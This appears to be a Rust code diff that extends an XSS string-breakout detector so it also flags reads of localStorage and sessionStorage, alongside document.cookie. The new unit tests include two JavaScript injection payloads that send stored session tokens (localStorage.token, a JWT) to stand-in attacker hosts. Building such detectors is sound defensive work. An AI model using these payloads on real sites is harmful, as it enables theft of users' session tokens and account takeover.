@@ -733,7 +733,8 @@ pub fn string_breakout(
         if sinks.marks(b).any_in(j, wend) && code_mentions_sink(window) {
             return true;
         }
-        // exfiltration: the cookie read into injected code (`'+document.cookie+'`)
+        // exfiltration: the cookie or web storage read into injected code
+        // (`'+document.cookie+'`, `'+localStorage.token;//`)
         if cookies
             .get_or_insert_with(|| {
                 let mut m = Marks::new();
@@ -741,10 +742,7 @@ pub fn string_breakout(
                 m
             })
             .any_in(j, wend.saturating_sub(COOKIE.len() - 1))
-            && window.len() >= COOKIE.len()
-            && window
-                .windows(COOKIE.len())
-                .any(|w| w.eq_ignore_ascii_case(COOKIE))
+            && reads_secret(window)
         {
             return true;
         }
@@ -1045,17 +1043,44 @@ fn direct_sink_runs(b: &[u8]) -> impl Iterator<Item = (usize, usize)> + '_ {
     })
 }
 
-/// Where `document.cookie` (any case) starts.
+/// The page's web storage objects, which hold what the cookie holds on sites that keep
+/// their session tokens in script (`localStorage.token`, `sessionStorage.getItem('jwt')`).
+const STORAGES: [&[u8]; 2] = [b"localStorage", b"sessionStorage"];
+
+/// Where `document.cookie` (any case) or a member of a web storage object
+/// (`localStorage.…`, `sessionStorage.…`) starts.
 fn cookie_reads(b: &[u8], m: &mut Marks) {
     for p in memchr::memchr_iter(b'.', b) {
-        if p >= 8
+        let at = if p >= 8
             && b.len() - (p - 8) >= COOKIE.len()
             && b[p - 8..p - 8 + COOKIE.len()].eq_ignore_ascii_case(COOKIE)
-            && !m.push(p - 8)
         {
+            p - 8
+        } else if let Some(n) = STORAGES
+            .iter()
+            .find(|s| b[..p].ends_with(s))
+            .map(|s| s.len())
+        {
+            p - n
+        } else {
+            continue;
+        };
+        if !m.push(at) {
             return;
         }
     }
+}
+
+/// Whether `window` holds a whole `document.cookie` (any case) or a storage member read
+/// (`localStorage.`, `sessionStorage.`).
+fn reads_secret(window: &[u8]) -> bool {
+    (window.len() >= COOKIE.len()
+        && window
+            .windows(COOKIE.len())
+            .any(|w| w.eq_ignore_ascii_case(COOKIE)))
+        || STORAGES.iter().any(|s| {
+            memchr::memmem::find_iter(window, s).any(|at| window.get(at + s.len()) == Some(&b'.'))
+        })
 }
 
 /// What [`attribute_delimiters`] finds in a value, gathered by a pass that reads the value's
@@ -3707,6 +3732,17 @@ mod tests {
         assert!(string_breakout("'instanceof alert(1) instanceof'"));
         assert!(!string_breakout("'Tom' in alert mode (1) today"));
         assert!(!string_breakout("the 'inline' alert(1) example"));
+        // web storage holds session tokens as the cookie does
+        assert!(string_breakout(
+            "';new Image().src='//evil.example/?'+localStorage.token;//"
+        ));
+        assert!(string_breakout(
+            "\";fetch('https://x.example/'+sessionStorage.getItem('jwt'))//"
+        ));
+        assert!(!string_breakout("it's kept in localStorage; see the docs"));
+        assert!(!string_breakout(
+            "'localStorage' vs 'sessionStorage' explained"
+        ));
     }
 
     #[test]
